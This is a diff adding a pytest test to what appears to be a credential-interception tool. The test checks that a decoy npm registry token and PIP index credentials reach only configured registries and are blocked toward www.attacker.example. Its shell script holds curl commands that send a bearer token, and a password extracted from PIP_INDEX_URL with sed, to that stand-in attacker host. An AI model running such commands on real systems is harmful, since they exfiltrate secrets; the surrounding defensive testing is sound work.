@@ -13,6 +13,7 @@ from typing import Any
 
 import pytest
 
+from interceptor.cli import decoys
 from tests.lab import Lab, daemons
 from tests.lab.agents import need
 from tests.lab.programs import Finished
@@ -208,6 +209,39 @@ redis-cli -h cache.example.com -p 6380 --tls auth default "$PASSWORD" || true
     (event,) = blocks(done)
     assert (event["reason"], event["port"]) == ("secret", 6380)
     assert word not in repr(done.evidence)
+
+
+def test_registry_tokens_are_at_home_where_the_client_is_configured(clean_lab: Lab) -> None:
+    """By the user's configuration and variables; a project's own comes from whoever wrote it."""
+    token = decoys.npm_token()
+    npmrc = clean_lab.path(f"{DEV_HOME}/.npmrc")
+    npmrc.write_text("@acme:registry=https://index.example.com/npm/\n")
+    _give(npmrc)
+    project = clean_lab.path(f"{DEV_WORK}/.npmrc")
+    project.write_text("registry=https://www.attacker.example/\n")
+    _give(project)
+    code = "-o /dev/null -w '%{http_code}\\n'"
+    header = f'-H "Authorization: Bearer {token}"'
+    user = '-u "me:$(printf %s "$PIP_INDEX_URL" | sed "s,.*me:,,;s,@.*,,")"'
+    script = f"""
+{_CURL} {code} {header} https://index.example.com/simple/
+{_CURL} {code} {header} https://mirror.example.com/get
+{_CURL} {code} {header} https://www.attacker.example/
+{_CURL} {code} -d {token} https://index.example.com/simple/
+{_CURL} {code} {user} https://index.example.com/simple/
+{_CURL} {code} {user} https://www.attacker.example/
+"""
+    env = {
+        "npm_config_registry": "https://mirror.example.com/",
+        "PIP_INDEX_URL": f"https://me:{value(10)}@index.example.com/simple",
+    }
+    try:
+        done = clean_lab.jail(["sh", "-c", script], env=env)
+        assert done.text.split() == ["200", "200", "403", "403", "200", "403"], done.errors
+        assert clean_lab.requests("www.attacker.example") == []
+    finally:
+        npmrc.unlink()
+        project.unlink()
 
 
 def test_no_process_of_ours_shows_it(clean_lab: Lab) -> None:
